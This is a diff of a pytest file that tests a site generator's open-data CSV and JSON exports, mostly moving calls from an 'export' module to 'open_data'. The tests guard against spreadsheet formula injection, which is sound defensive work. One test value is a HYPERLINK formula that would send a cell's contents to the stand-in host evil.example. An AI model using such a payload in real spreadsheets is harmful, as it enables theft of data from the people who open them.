@@ -10,7 +10,8 @@ import json
 
 import pytest
 
-from generator import export, model
+from generator.data import model
+from generator.site import open_data
 
 FORMULAS = (
     '=HYPERLINK("https://evil.example/?q="&A1;"Klikk her")',
@@ -58,7 +59,11 @@ def _rows(raw: bytes) -> list[list[str]]:
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_no_csv_cell_starts_a_formula(formula: str) -> None:
     data = _dataset(formula)
-    for raw in (export.followups_csv(data), export.statuses_csv(data), export.areas_csv(data)):
+    for raw in (
+        open_data.followups_csv(data),
+        open_data.statuses_csv(data),
+        open_data.areas_csv(data),
+    ):
         _header, *rows = _rows(raw)
         cells = [value for row in rows for value in row]
         texts = [value for value in cells if formula.strip() in value]
@@ -70,28 +75,28 @@ def test_no_csv_cell_starts_a_formula(formula: str) -> None:
 
 def test_the_separator_and_quotes_stay_inside_their_cell() -> None:
     text = 'a;b "c"\nd'
-    header, row = _rows(export.areas_csv(_dataset(text)))
+    header, row = _rows(open_data.areas_csv(_dataset(text)))
     assert row[:2] == [text, text]
     assert len(row) == len(header)
 
 
 def test_ordinary_text_is_left_as_written() -> None:
     for text in ("Tiltak – 2026", "«=» er et likhetstegn", "a-b", "1+1", "'sitat'"):
-        assert export.cell(text) == text
-    assert export.cell(3) == 3
+        assert open_data.cell(text) == text
+    assert open_data.cell(3) == 3
 
 
 def test_the_json_keeps_the_text_exactly() -> None:
     for formula in FORMULAS:
-        document = json.loads(export.as_json(export.followups_document(_dataset(formula))))
+        document = json.loads(open_data.as_json(open_data.followups_document(_dataset(formula))))
         assert document["followups"][0]["title"] == formula
         assert document["followups"][0]["statuses"][0]["text"] == formula
-        areas = json.loads(export.as_json(export.areas_document(_dataset(formula))))
+        areas = json.loads(open_data.as_json(open_data.areas_document(_dataset(formula))))
         assert areas["areas"][0]["name"] == formula
 
 
 def test_the_open_data_page_says_so() -> None:
-    from generator import render
+    from generator.site import render
 
     pages = render.render_site(_dataset("Tittel"), dt.date(2026, 1, 30))
     assert (
